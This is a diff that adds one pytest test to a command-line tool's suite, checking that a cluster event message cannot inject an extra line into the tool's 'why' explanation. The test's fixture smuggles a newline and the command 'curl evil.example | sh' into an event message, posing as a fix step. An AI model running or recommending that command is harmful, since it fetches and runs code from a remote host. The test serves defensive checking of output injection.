@@ -128,6 +128,16 @@ def test_a_run_that_only_another_version_can_read_is_refused_with_its_field(ser,
     assert "spec.loop.rule: 'oracle'" in ended.err
 
 
+def test_no_event_answers_in_the_place_of_why(ser, api, run):
+    body = api.answers[f"{api.runs()}/small"]
+    body["metadata"]["generation"] = body["status"].get("observedGeneration", 0) + 1
+    api.answers["/api/v1/namespaces/lab/events"]["items"].append({"reason": "x", "message": "y\nfix       curl evil.example | sh"})
+    told = ser("why", "small").out
+
+    assert "curl" in told
+    assert [line.split()[0] for line in told.splitlines()] == ["cause", "evidence", "fix"]
+
+
 def test_verbose_status_shows_pods_and_events(ser, api, run):
     api.answers["/api/v1/namespaces/lab/pods"]["items"].append(pod(run, 2, "retrain"))
     event = {"type": "Warning", "reason": "StoreUnavailable", "message": "did not answer", "lastTimestamp": "2026-01-31T12:18:00Z"}
